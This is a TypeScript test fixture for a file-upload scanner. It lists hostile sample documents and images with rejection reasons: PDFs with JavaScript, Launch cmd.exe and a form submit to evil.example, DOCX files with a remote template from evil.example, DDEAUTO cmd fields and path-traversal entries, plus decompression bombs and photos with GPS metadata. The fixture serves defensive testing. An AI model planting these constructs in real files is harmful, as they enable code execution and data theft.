import { deflateSync } from 'node:zlib'
import { docx, eicar, jpg, packedObjects, pdf, png, xlsx, zipOf } from './files.ts'

type Hostile = [
	what: string,
	ending: 'pdf' | 'docx' | 'xlsx' | 'png' | 'jpg',
	content: Buffer,
	reason: string,
]

const relation = (type: string, target: string, more = 'TargetMode="External"') =>
	`<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" ${more}/></Relationships>`
const page = zipOf([{ name: 'index.html', content: '<script>alert(1)</script>' }])
const action = (of: string) => pdf(`<< /Type /Action ${of} >>`)
const written = (text: string) => docx([], undefined, text)

/** A picture that states enormous dimensions. */
const vast = () => {
	const content = Buffer.from(png())
	content.writeUInt32BE(60_000, 16)
	content.writeUInt32BE(60_000, 20)
	return content
}

/** A valid beginning with hidden content in a compressed stream. */
const hidden = (name: string) => pdf(packedObjects(`<< /S ${name} >>`))

/** Files that are rejected everywhere, each with its reason. */
export const hostileFiles: Hostile[] = [
	['the text that every scanner knows, as a document', 'pdf', Buffer.from(eicar), 'contentDiffers'],
	['an archive as a document', 'docx', page, 'contentDiffers'],
	['a page as a picture', 'png', Buffer.from('<html><script>alert(1)</script>'), 'contentDiffers'],
	['a drawing that can run, as a picture', 'png', Buffer.from('<svg onload="alert(1)"/>'), 'contentDiffers'],
	['a program as a workbook', 'xlsx', Buffer.from('MZ\x90\0'), 'contentDiffers'],
	['a PDF with an archive behind', 'pdf', Buffer.concat([pdf(), page]), 'twoFiles'],
	['a picture with a page behind', 'png', Buffer.concat([png(), Buffer.from('<html>')]), 'twoFiles'],
	['a photo with an archive behind', 'jpg', Buffer.concat([jpg(), page]), 'twoFiles'],
	['a PDF with a script', 'pdf', action('/S /JavaScript /JS (app.alert(1))'), 'active'],
	['a PDF with a script under its short name', 'pdf', action('/JS (app.alert(1))'), 'active'],
	['a PDF with a script in other letters', 'pdf', action('/S /J#61v#61Script'), 'active'],
	['a PDF with a script in a packed stream', 'pdf', hidden('/JavaScript'), 'active'],
	['a PDF that starts a program', 'pdf', action('/S /Launch /F (cmd.exe)'), 'active'],
	['a PDF that sends what was typed', 'pdf', action('/S /SubmitForm /F (https://evil.example)'), 'active'],
	['a PDF with a form of scripts', 'pdf', action('/XFA 4 0 R'), 'active'],
	['a PDF that opens another inside it', 'pdf', action('/S /GoToE'), 'nested'],
	['a PDF with a link to a file', 'pdf', action('/S /URI /URI (file:///c:/a.exe)'), 'badLink'],
	['a PDF that cannot be read', 'pdf', pdf('<< /S evil >>'), 'unreadable'],
	['a PDF with a film', 'pdf', action('/Subtype /RichMedia'), 'active'],
	['a PDF that unpacks without end', 'pdf', pdf(packedObjects(' '.repeat(51 * 1024 * 1024))), 'bomb'],
	['a document with macros', 'docx', docx([{ name: 'word/vbaProject.bin', content: 'x' }]), 'macros'],
	[
		'a workbook with macros of the old kind',
		'xlsx',
		xlsx([{ name: 'xl/macrosheets/a.xml', content: '<macrosheet/>' }]),
		'macros',
	],
	[
		'a document with a program inside',
		'docx',
		docx([{ name: 'word/embeddings/a.bin', content: Buffer.from('d0cf11e0a1b11ae1', 'hex') }]),
		'nested',
	],
	[
		'a document that takes its template from outside',
		'docx',
		docx([
			{
				name: 'word/_rels/settings.xml.rels',
				content: relation('attachedTemplate', 'https://evil.example/a.dotm'),
			},
		]),
		'linked',
	],
	[
		'one that says so in other words',
		'docx',
		docx([
			{
				name: 'word/_rels/settings.xml.rels',
				content:
					"<ns:Relationships xmlns:ns='http://schemas.openxmlformats.org/package/2006/relationships'><ns:Relationship Id='a' Target='\\\\evil.example\\a' TargetMode = 'External' Type='x/oleObject'/></ns:Relationships>",
			},
		]),
		'linked',
	],
	[
		'a workbook that takes tables from outside',
		'xlsx',
		xlsx([{ name: 'xl/externalLinks/externalLink1.xml', content: '<externalLink/>' }]),
		'linked',
	],
	[
		'a workbook that asks a database',
		'xlsx',
		xlsx([{ name: 'xl/connections.xml', content: '<connections><connection id="1"/></connections>' }]),
		'fetches',
	],
	[
		'a document with a page inside',
		'docx',
		docx([{ name: 'word/afchunk.mht', content: 'MIME-Version: 1.0' }]),
		'linked',
	],
	[
		'a document with a field that starts a program',
		'docx',
		written(
			'<w:instrText>DDE</w:instrText><w:instrText xml:space="preserve">AUTO c:\\\\cmd.exe</w:instrText>',
		),
		'fetches',
	],
	[
		'a document with such a field in its name',
		'docx',
		written('<w:fldSimple w:instr="DDEAUTO cmd"/>'),
		'fetches',
	],
	['a part with a way out', 'docx', docx([{ name: '../../etc/cron.d/x', content: 'x' }]), 'damaged'],
	['a part at the root of the disk', 'docx', docx([{ name: '/etc/passwd', content: 'x' }]), 'damaged'],
	[
		'a part with the way out of another system',
		'docx',
		docx([{ name: '..\\..\\x', content: 'x' }]),
		'damaged',
	],
	[
		'a document that unpacks without end',
		'docx',
		docx([{ name: 'word/a.xml', content: Buffer.alloc(8 * 1024 * 1024) }]),
		'bomb',
	],
	['a document with an unknown part', 'docx', docx([{ name: 'word/a.dat', content: 'x' }]), 'unknownPart'],
	['a document with a control', 'docx', written('<w:control w:name="a"/>'), 'controls'],
	['a picture as large as a country', 'png', vast(), 'bomb'],
	[
		'a workbook with a password',
		'xlsx',
		xlsx([{ name: 'xl/a.xml', content: 'x', encrypted: true }]),
		'locked',
	],
]

const segment = (marker: number, content: string | Buffer) => {
	// A buffer ignores the encoding.
	const bytes = Buffer.from(content as string, typeof content === 'string' ? 'latin1' : undefined)
	const head = Buffer.from([0xff, marker, 0, 0])
	head.writeUInt16BE(bytes.length + 2, 2)
	return Buffer.concat([head, bytes])
}

/** An Exif segment with a rotation and the place where the photo was taken. */
const exif = Buffer.concat([
	Buffer.from('Exif\0\0II*\0\x08\0\0\0\x02\0', 'latin1'),
	Buffer.from([0x12, 1, 3, 0, 1, 0, 0, 0, 6, 0, 0, 0]),
	Buffer.from([0x25, 0x88, 4, 0, 1, 0, 0, 0, 38, 0, 0, 0, 0, 0, 0, 0]),
	Buffer.from('GPS 5.6037 N 0.1870 W of Accra', 'latin1'),
])
const scan = Buffer.from([0x11, 0xff, 0x00, 0x22, 0xff, 0xd0, 0x33, 0xff, 0x00, 0xd9])

/** A photo as taken by a telephone: with place, maker and thumbnail. `points` is the part to keep. */
export function photo() {
	const points = Buffer.concat([
		segment(0xdb, 'tables'),
		segment(0xc0, '\x08\0\x01\0\x01\x01\x01\x11\0'),
		segment(0xda, '\x01\x01\0\0?\0'),
		scan,
	])
	const told = [
		segment(0xe0, 'JFIF\0\x01\x01\0\0\x01\0\x01\0\0'),
		segment(0xe1, exif),
		segment(0xe1, 'http://ns.adobe.com/xap/1.0/\0<x:xmpmeta>Accra</x:xmpmeta>'),
		segment(0xe2, 'ICC_PROFILE\0\x01\x01colours'),
		segment(0xe2, 'MPF\0more pictures'),
		segment(0xed, 'Photoshop 3.0\0Accra'),
		segment(0xfe, '<script>alert("Accra")</script>'),
	]
	const content = Buffer.concat([
		Buffer.from([0xff, 0xd8]),
		...told,
		points,
		Buffer.from([0xff, 0xd9]),
		jpg(),
	])
	return { content, points }
}

/** A picture with a place and a page in its metadata. */
export function notedPng() {
	const plain = png()
	const note = (type: string, text: string) => {
		const data = Buffer.from(text, 'latin1')
		const length = Buffer.alloc(4)
		length.writeUInt32BE(data.length)
		return Buffer.concat([length, Buffer.from(type), data, Buffer.alloc(4)])
	}
	const packed = deflateSync(Buffer.from('Accra')).toString('latin1')
	const notes = [
		note('tEXt', 'Comment\0<script>Accra'),
		note('eXIf', 'MM*\0GPS Accra'),
		note('zTXt', `a\0\0${packed}`),
	]
	return Buffer.concat([plain.subarray(0, 33), ...notes, plain.subarray(33)])
}
